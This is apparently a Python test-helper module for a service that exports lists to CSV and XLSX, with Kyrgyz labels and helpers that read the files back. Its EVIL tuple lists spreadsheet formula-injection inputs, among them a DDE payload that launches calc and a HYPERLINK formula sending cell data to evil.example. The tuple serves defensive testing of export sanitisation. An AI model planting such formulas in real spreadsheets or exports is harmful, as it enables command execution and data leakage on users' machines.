"""Lists to export, and the files read back as others read them."""

import csv
from collections.abc import Iterable, Iterator, Sequence
from datetime import UTC, datetime
from io import BytesIO, StringIO
from itertools import count, islice
from pathlib import Path
from typing import Final
from xml.etree import ElementTree
from zipfile import ZipFile

from python_calamine import CalamineWorkbook

from service.exporting import Cell, Column, csv_lines, xlsx_file

MADE: Final = datetime(2026, 11, 20, 3, 4, 5, tzinfo=UTC)
TEXTS: Final = (Column("Аталышы"),)
MAIN: Final = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
# What somebody may have typed as the title of a nonconformity.
EVIL: Final = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("http://evil.example/?"&A1,"Ачуу")',
    "{=1+1}",
    "a;=1+1;b",
    'a;"=1+1;b',
    "a; \t@SUM(1)",
    "a\n=1+1",
    "a\r\n+1+1",
    '","=1+1',
    '"\r\n=1+1',
)


def as_csv(columns: Sequence[Column], rows: Iterable[Sequence[Cell]], *, delimiter: str = ",") -> list[list[str]]:
    """The cells as a program reads them, or one that was told of another delimiter."""
    raw = b"".join(csv_lines(columns, rows))
    return list(csv.reader(StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def as_xlsx(columns: Sequence[Column], rows: Iterable[Sequence[Cell]], *, title: str = "Тизме") -> BytesIO:
    target = BytesIO()
    xlsx_file(columns, rows, target, title=title, made=MADE)
    target.seek(0)
    return target


def cells(workbook: BytesIO | Path) -> list[list[object]]:
    """The cells of the only sheet, as calamine reads them."""
    found = (
        CalamineWorkbook.from_path(str(workbook))
        if isinstance(workbook, Path)
        else CalamineWorkbook.from_filelike(workbook)
    )
    return [list(row) for row in found.get_sheet_by_index(0).to_python()]


def part(workbook: BytesIO, name: str) -> ElementTree.Element:
    """A part of the workbook, as XML."""
    with ZipFile(workbook) as parts:
        return ElementTree.fromstring(parts.read(name))  # noqa: S314 - our own workbook


def sheet(workbook: BytesIO) -> ElementTree.Element:
    return part(workbook, "xl/worksheets/sheet1.xml")


def many(most: int) -> Iterator[tuple[Cell, ...]]:
    """Rows made one at a time: whoever gathers them needs the memory."""
    for number in islice(count(1), most):
        yield f"NC-{number:06} Өлчөө үлгүсү жөнүндө", number, MADE, number % 2 == 0
